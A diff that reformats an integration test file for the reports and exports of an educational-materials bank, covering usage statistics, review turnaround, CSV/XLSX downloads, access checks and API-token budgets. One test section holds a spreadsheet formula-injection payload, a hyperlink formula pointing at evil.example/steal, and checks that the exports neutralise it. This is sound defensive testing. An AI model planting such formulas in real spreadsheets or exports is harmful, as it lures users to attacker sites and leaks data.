@@ -30,7 +30,11 @@ let other: Material;
 let methodist: string;
 
 async function ask(query: string, variables: Record<string, unknown>, userAgent = BROWSER) {
-  const response = await fetch(`${app.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', 'user-agent': userAgent }, body: JSON.stringify({ query, variables }) });
+  const response = await fetch(`${app.url}/graphql`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json', 'user-agent': userAgent },
+    body: JSON.stringify({ query, variables }),
+  });
   expect(response.status).toBe(200);
   return response.json();
 }
@@ -75,7 +79,10 @@ describe('usage statistics', () => {
     ]);
     expect(usage.zeroResultQueries).toEqual([{ query: 'квазизвездный радиотелескоп', searches: 3, zeroResults: 3 }]);
     // The running total on the material moved too (the "most viewed" order reads it).
-    expect((await app.gql('query($id: ID!) { material(id: $id) { viewCount downloadCount } }', { id: popular.globalId }, methodist)).data.material).toEqual({ viewCount: 3, downloadCount: 1 });
+    expect(
+      (await app.gql('query($id: ID!) { material(id: $id) { viewCount downloadCount } }', { id: popular.globalId }, methodist)).data
+        .material,
+    ).toEqual({ viewCount: 3, downloadCount: 1 });
   });
 
   it('puts an event in the district day it happened in, and a period includes both its ends', async () => {
@@ -108,11 +115,18 @@ describe('usage statistics', () => {
   });
 
   it('refuses a report period with a day that does not exist (30 February, year 0) as bad input, in GraphQL and in downloads', async () => {
-    for (const period of [{ from: '2026-02-01', to: '2026-02-30' }, { from: '0000-01-01', to: '0000-12-31' }]) {
+    for (const period of [
+      { from: '2026-02-01', to: '2026-02-30' },
+      { from: '0000-01-01', to: '0000-12-31' },
+    ]) {
       const answer = await app.gql(REPORT, { period }, methodist);
       expect(answer.errors?.[0]?.extensions?.code, JSON.stringify(period)).toBe('BAD_USER_INPUT');
     }
-    for (const path of ['/reports/usage.csv?from=2026-02-01&to=2026-02-30', '/reports/materials.xlsx?from=0000-01-01&to=0000-12-31', '/reports/annual-0000.xlsx']) {
+    for (const path of [
+      '/reports/usage.csv?from=2026-02-01&to=2026-02-30',
+      '/reports/materials.xlsx?from=0000-01-01&to=0000-12-31',
+      '/reports/annual-0000.xlsx',
+    ]) {
       const response = await fetch(`${app.url}${path}`, { headers: { authorization: `Bearer ${methodist}` } });
       expect(response.status, path).toBe(400);
       expect((await response.json()).error, path).toMatch(/такого дня нет/);
@@ -143,7 +157,10 @@ describe('reports', () => {
     methodistToken = (await signIn(app, Role.METHODIST)).token;
     const schoolA = await buildOrganization(em, { name: 'Отчёты: школа А' });
     // A short name, where there is one, is what a report's reader knows the school by.
-    const schoolB = await buildOrganization(em, { name: 'Муниципальное бюджетное общеобразовательное учреждение «Отчёты: школа Б»', shortName: 'Отчёты: школа Б' });
+    const schoolB = await buildOrganization(em, {
+      name: 'Муниципальное бюджетное общеобразовательное учреждение «Отчёты: школа Б»',
+      shortName: 'Отчёты: школа Б',
+    });
     const chemistry = await buildSubject(em, 'Отчёты-химия');
     const basic = await buildLevel(em, 'О-ООО');
     const primary = await buildLevel(em, 'О-НОО');
@@ -157,9 +174,26 @@ describe('reports', () => {
       await buildPerson(em, { fullName: 'Старова Ольга Ивановна', organization: schoolA, experienceYears: 20 }),
       await buildPerson(em, { fullName: 'Борисов Пётр Ильич', organization: schoolB, experienceYears: 12 }),
     ];
-    young = await buildMaterial(em, { title: 'Отчёты: практика молодого учителя', kind: MaterialKind.BEST_PRACTICE, authors: [novice], subjects: [chemistry], levels: [basic] });
-    const draft = await buildMaterial(em, { title: 'Отчёты: черновик', kind: MaterialKind.METHODOLOGICAL_MATERIAL, status: MaterialStatus.DRAFT, authors: [senior], subjects: [chemistry] });
-    const inReview = await buildMaterial(em, { title: 'Отчёты: на экспертизе', kind: MaterialKind.PUBLICATION, status: MaterialStatus.IN_REVIEW, authors: [other] });
+    young = await buildMaterial(em, {
+      title: 'Отчёты: практика молодого учителя',
+      kind: MaterialKind.BEST_PRACTICE,
+      authors: [novice],
+      subjects: [chemistry],
+      levels: [basic],
+    });
+    const draft = await buildMaterial(em, {
+      title: 'Отчёты: черновик',
+      kind: MaterialKind.METHODOLOGICAL_MATERIAL,
+      status: MaterialStatus.DRAFT,
+      authors: [senior],
+      subjects: [chemistry],
+    });
+    const inReview = await buildMaterial(em, {
+      title: 'Отчёты: на экспертизе',
+      kind: MaterialKind.PUBLICATION,
+      status: MaterialStatus.IN_REVIEW,
+      authors: [other],
+    });
     const slow = await buildMaterial(em, { title: 'Отчёты: долгая экспертиза', kind: MaterialKind.PUBLICATION, authors: [other] });
     const may = await buildMaterial(em, { title: 'Отчёты: майский', authors: [senior] });
     const connection = em.getConnection();
@@ -170,7 +204,10 @@ describe('reports', () => {
     await created(slow, '2026-03-01T09:00:00Z');
     await created(may, '2026-04-30T19:30:00Z'); // already 1 May there
     const revision = (m: Material, action: string, at: string) =>
-      connection.execute(`insert into material_revision (id, material_id, version, action, changes, snapshot, created_at) values (gen_random_uuid(), ?, 1, ?, '{}', '{}', ?)`, [m.id, action, at]);
+      connection.execute(
+        `insert into material_revision (id, material_id, version, action, changes, snapshot, created_at) values (gen_random_uuid(), ?, 1, ?, '{}', '{}', ?)`,
+        [m.id, action, at],
+      );
     await revision(young, 'submitted', '2026-04-03T10:00:00Z');
     await revision(young, 'published', '2026-04-05T10:00:00Z'); // 2 days
     await revision(slow, 'submitted', '2026-04-01T10:00:00Z');
@@ -186,23 +223,36 @@ describe('reports', () => {
   };
 
   it('counts materials created in the period by organization and by kind, per state, in district days', async () => {
-    const rows = (await ask(`query($p: PeriodInput!) { materialsReport(period: $p, by: ORGANIZATION) { label total draft inReview published rejected archived } }`, { p: APRIL })).materialsReport;
+    const rows = (
+      await ask(
+        `query($p: PeriodInput!) { materialsReport(period: $p, by: ORGANIZATION) { label total draft inReview published rejected archived } }`,
+        { p: APRIL },
+      )
+    ).materialsReport;
     expect(rows).toEqual([
       { label: 'Отчёты: школа А', total: 2, draft: 1, inReview: 0, published: 1, rejected: 0, archived: 0 },
       { label: 'Отчёты: школа Б', total: 1, draft: 0, inReview: 1, published: 0, rejected: 0, archived: 0 },
     ]);
-    const kinds = (await ask(`query($p: PeriodInput!) { materialsReport(period: $p, by: KIND) { label total } }`, { p: APRIL })).materialsReport;
+    const kinds = (await ask(`query($p: PeriodInput!) { materialsReport(period: $p, by: KIND) { label total } }`, { p: APRIL }))
+      .materialsReport;
     expect(kinds).toEqual([
       { label: 'Методический материал', total: 1 },
       { label: 'Педагогическая практика', total: 1 },
       { label: 'Публикация', total: 1 },
     ]);
-    const subjects = (await ask(`query($p: PeriodInput!) { materialsReport(period: $p, by: SUBJECT) { label total published } }`, { p: APRIL })).materialsReport;
+    const subjects = (
+      await ask(`query($p: PeriodInput!) { materialsReport(period: $p, by: SUBJECT) { label total published } }`, { p: APRIL })
+    ).materialsReport;
     expect(subjects).toContainEqual({ label: 'Отчёты-химия', total: 2, published: 1 });
   });
 
   it('shows authors by organization with young specialists apart', async () => {
-    const rows = (await ask(`query($p: PeriodInput!) { authorsActivity(period: $p) { organization authors materials published youngAuthors youngMaterials } }`, { p: APRIL })).authorsActivity;
+    const rows = (
+      await ask(
+        `query($p: PeriodInput!) { authorsActivity(period: $p) { organization authors materials published youngAuthors youngMaterials } }`,
+        { p: APRIL },
+      )
+    ).authorsActivity;
     expect(rows).toEqual([
       { organization: 'Отчёты: школа А', authors: 2, materials: 2, published: 1, youngAuthors: 1, youngMaterials: 1 },
       { organization: 'Отчёты: школа Б', authors: 1, materials: 1, published: 0, youngAuthors: 0, youngMaterials: 0 },
@@ -210,14 +260,21 @@ describe('reports', () => {
   });
 
   it('measures review turnaround from the last submission to publication: median and p90', async () => {
-    const turnaround = (await ask(`query($p: PeriodInput!) { reviewTurnaround(period: $p) { published medianDays p90Days } }`, { p: APRIL })).reviewTurnaround;
+    const turnaround = (
+      await ask(`query($p: PeriodInput!) { reviewTurnaround(period: $p) { published medianDays p90Days } }`, { p: APRIL })
+    ).reviewTurnaround;
     expect(turnaround).toEqual({ published: 2, medianDays: 6, p90Days: 9.2 });
-    const march = (await ask(`query($p: PeriodInput!) { reviewTurnaround(period: $p) { published medianDays } }`, { p: { from: '2026-03-01', to: '2026-03-31' } })).reviewTurnaround;
+    const march = (
+      await ask(`query($p: PeriodInput!) { reviewTurnaround(period: $p) { published medianDays } }`, {
+        p: { from: '2026-03-01', to: '2026-03-31' },
+      })
+    ).reviewTurnaround;
     expect(march).toEqual({ published: 0, medianDays: null });
   });
 
   it('finds the pairs of a subject and a level it is taught at where the bank is thin, and no others', async () => {
-    const gaps: Array<{ subject: string; level: string }> = (await ask(`{ coverageGaps(below: 1) { subject level levelName published } }`)).coverageGaps;
+    const gaps: Array<{ subject: string; level: string }> = (await ask(`{ coverageGaps(below: 1) { subject level levelName published } }`))
+      .coverageGaps;
     expect(gaps).toContainEqual({ subject: 'Отчёты-химия', level: 'О-НОО', levelName: 'Уровень О-НОО', published: 0 });
     expect(gaps).toContainEqual({ subject: 'Отчёты-дошкольное', level: 'О-ДО', levelName: 'Уровень О-ДО', published: 0 });
     const pairs = gaps.filter((g) => g.subject.startsWith('Отчёты-')).map((g) => `${g.subject} × ${g.level}`);
@@ -234,7 +291,16 @@ describe('reports', () => {
     await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
     const sheet = workbook.worksheets[0]!;
     expect(sheet.getCell('A1').value).toBe('Материалы по организациям, созданные с 01.04.2026 по 30.04.2026');
-    expect(sheet.getRow(2).values).toEqual([undefined, 'Значение', 'Всего', 'Черновики', 'На экспертизе', 'Опубликовано', 'Отклонено', 'В архиве']);
+    expect(sheet.getRow(2).values).toEqual([
+      undefined,
+      'Значение',
+      'Всего',
+      'Черновики',
+      'На экспертизе',
+      'Опубликовано',
+      'Отклонено',
+      'В архиве',
+    ]);
     expect(sheet.getRow(2).font?.bold).toBe(true);
     expect(sheet.getColumn(1).width).toBe(48);
     expect(sheet.getRow(3).values).toEqual([undefined, 'Отчёты: школа А', 2, 1, 0, 1, 0, 0]);
@@ -252,28 +318,52 @@ describe('reports', () => {
     const summary = new ExcelJS.Workbook();
     await summary.xlsx.load(Buffer.from(await annual.arrayBuffer()) as never);
     expect(summary.worksheets.map((w) => w.name)).toEqual([
-      'Использование', 'Поисковые запросы', 'Материалы — организации', 'Материалы — предметы', 'Материалы — уровни', 'Материалы — виды', 'Активность авторов', 'Сроки экспертизы', 'Пробелы банка',
+      'Использование',
+      'Поисковые запросы',
+      'Материалы — организации',
+      'Материалы — предметы',
+      'Материалы — уровни',
+      'Материалы — виды',
+      'Активность авторов',
+      'Сроки экспертизы',
+      'Пробелы банка',
     ]);
     expect(summary.getWorksheet('Использование')!.rowCount).toBe(2 + 365);
     expect(summary.getWorksheet('Сроки экспертизы')!.getRow(3).values).toEqual([undefined, 2, 6, 9.2]);
 
     const reader = await signIn(app, Role.READER);
-    expect((await fetch(`${app.url}/reports/gaps.csv?from=2026-04-01&to=2026-04-30`, { headers: { authorization: `Bearer ${reader.token}` } })).status).toBe(403);
+    expect(
+      (await fetch(`${app.url}/reports/gaps.csv?from=2026-04-01&to=2026-04-30`, { headers: { authorization: `Bearer ${reader.token}` } }))
+        .status,
+    ).toBe(403);
     expect((await fetch(`${app.url}/reports/gaps.csv?from=2026-04-01&to=2026-04-30`)).status).toBe(401);
     expect((await fetch(`${app.url}/reports/gaps.csv?from=апрель&to=2026-04-30`, { headers: auth })).status).toBe(400);
     expect((await fetch(`${app.url}/reports/salaries.csv`, { headers: auth })).status).toBe(404);
   });
-
 });
 
 describe('reports defined once', () => {
-  it('gives in every report\'s GraphQL query and in its CSV the same rows, under the same columns, in the definition\'s order', async () => {
+  it("gives in every report's GraphQL query and in its CSV the same rows, under the same columns, in the definition's order", async () => {
     const token = (await signIn(app, Role.METHODIST)).token;
-    await buildMaterial(app.em(), { title: 'Отчёты один раз: материал периода', kind: MaterialKind.PUBLICATION, subjects: [await buildSubject(app.em(), 'Отчёты-один-раз')], levels: [await buildLevel(app.em(), 'ООР-ООО')] });
+    await buildMaterial(app.em(), {
+      title: 'Отчёты один раз: материал периода',
+      kind: MaterialKind.PUBLICATION,
+      subjects: [await buildSubject(app.em(), 'Отчёты-один-раз')],
+      levels: [await buildLevel(app.em(), 'ООР-ООО')],
+    });
     const day = today();
-    const args: Record<string, [string, string, unknown]> = { period: ['PeriodInput!', `from=${day}&to=${day}`, { from: day, to: day }], by: ['ReportDimension!', 'by=KIND', 'KIND'], below: ['Int', 'below=2', 2] };
+    const args: Record<string, [string, string, unknown]> = {
+      period: ['PeriodInput!', `from=${day}&to=${day}`, { from: day, to: day }],
+      by: ['ReportDimension!', 'by=KIND', 'KIND'],
+      below: ['Int', 'below=2', 2],
+    };
     const asked = REPORTS.filter((report) => report.query);
-    expect(asked.map((report) => report.query!.name).sort()).toEqual(['authorsActivity', 'coverageGaps', 'materialsReport', 'reviewTurnaround']);
+    expect(asked.map((report) => report.query!.name).sort()).toEqual([
+      'authorsActivity',
+      'coverageGaps',
+      'materialsReport',
+      'reviewTurnaround',
+    ]);
     for (const report of asked) {
       const names = report.params;
       const query = `query(${names.map((n) => `$${n}: ${args[n]![0]}`).join(', ')}) { answer: ${report.query!.name}(${names.map((n) => `${n}: $${n}`).join(', ')}) { ${report.columns.map((c) => c.key).join(' ')} } }`;
@@ -281,10 +371,17 @@ describe('reports defined once', () => {
       expect(answer.errors, report.name).toBeUndefined();
       const rows = ([] as Array<Record<string, unknown>>).concat(answer.data.answer);
       expect(rows.length, report.name).toBeGreaterThan(0);
-      const csv = await fetch(`${app.url}/reports/${report.name}.csv?${Object.values(args).map(([, q]) => q).join('&')}`, { headers: { authorization: `Bearer ${token}` } });
+      const csv = await fetch(
+        `${app.url}/reports/${report.name}.csv?${Object.values(args)
+          .map(([, q]) => q)
+          .join('&')}`,
+        { headers: { authorization: `Bearer ${token}` } },
+      );
       const lines = (await csv.text()).slice(1).split('\r\n').filter(Boolean);
       expect(lines[1], report.name).toBe(report.columns.map((c) => c.header).join(';'));
-      expect(lines.slice(2), report.name).toEqual(rows.map((row) => report.columns.map((c) => (row[c.key] === null ? '' : String(row[c.key]))).join(';')));
+      expect(lines.slice(2), report.name).toEqual(
+        rows.map((row) => report.columns.map((c) => (row[c.key] === null ? '' : String(row[c.key]))).join(';')),
+      );
     }
   });
 });
@@ -302,7 +399,9 @@ describe('report files and what strangers type', () => {
     expect(line).toMatch(/^"'=hyperlink\(""http:\/\/evil\.example\/steal"",""открыть""\)";1;[01]$/);
 
     const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load(Buffer.from(await (await fetch(`${app.url}/reports/queries.xlsx?${period}`, { headers: auth })).arrayBuffer()) as never);
+    await workbook.xlsx.load(
+      Buffer.from(await (await fetch(`${app.url}/reports/queries.xlsx?${period}`, { headers: auth })).arrayBuffer()) as never,
+    );
     const cell = workbook.worksheets[0]!.getColumn(1).values.indexOf('=hyperlink("http://evil.example/steal","открыть")');
     expect(cell).toBeGreaterThan(2);
     expect(workbook.worksheets[0]!.getCell(cell, 1).type).toBe(ExcelJS.ValueType.String);
@@ -312,16 +411,26 @@ describe('report files and what strangers type', () => {
 
 describe('report files for other systems', () => {
   const issue = async (scope: 'READ' | 'READ_WRITE', budget: number, owner = methodist) =>
-    (await app.gql(`mutation($scope: TokenScope!, $budget: Int) { createApiToken(name: "Отчётная система района", scope: $scope, budgetPerHour: $budget) { token apiToken { id } } }`, { scope, budget }, owner)).data.createApiToken;
+    (
+      await app.gql(
+        `mutation($scope: TokenScope!, $budget: Int) { createApiToken(name: "Отчётная система района", scope: $scope, budgetPerHour: $budget) { token apiToken { id } } }`,
+        { scope, budget },
+        owner,
+      )
+    ).data.createApiToken;
   const download = (file: string, token: string) => fetch(`${app.url}/reports/${file}`, { headers: { authorization: `Bearer ${token}` } });
   const period = '?from=2026-04-01&to=2026-04-30';
 
-  it('accepts a methodist\'s API token (Authorization: Bearer kbt_…) on /reports, charging its hourly budget: the annual summary costs 10, one report 1; over budget 429 with Retry-After', async () => {
+  it("accepts a methodist's API token (Authorization: Bearer kbt_…) on /reports, charging its hourly budget: the annual summary costs 10, one report 1; over budget 429 with Retry-After", async () => {
     const { token } = await issue('READ_WRITE', 12);
     const csv = await download(`queries.csv${period}`, token);
     expect(csv.status).toBe(200);
     expect(await csv.text()).toContain('Частые поисковые запросы');
-    expect([csv.headers.get('x-ratelimit-limit'), csv.headers.get('x-ratelimit-cost'), csv.headers.get('x-ratelimit-remaining')]).toEqual(['12', '1', '11']);
+    expect([csv.headers.get('x-ratelimit-limit'), csv.headers.get('x-ratelimit-cost'), csv.headers.get('x-ratelimit-remaining')]).toEqual([
+      '12',
+      '1',
+      '11',
+    ]);
     const annual = await download('annual-2026.xlsx', token);
     expect(annual.status).toBe(200);
     expect([annual.headers.get('x-ratelimit-cost'), annual.headers.get('x-ratelimit-remaining')]).toEqual(['10', '1']);
@@ -332,7 +441,7 @@ describe('report files for other systems', () => {
     expect(((await over.json()) as { error: string }).error).toContain('Бюджет токена исчерпан');
   });
 
-  it('refuses on /reports a READ token (it reads as an anonymous reader), a token whose owner is no longer a methodist, and an unknown or revoked token, saying why; an admin\'s token is accepted', async () => {
+  it("refuses on /reports a READ token (it reads as an anonymous reader), a token whose owner is no longer a methodist, and an unknown or revoked token, saying why; an admin's token is accepted", async () => {
     const read = await issue('READ', 100);
     const readOnly = await download(`queries.csv${period}`, read.token);
     expect(readOnly.status).toBe(403);
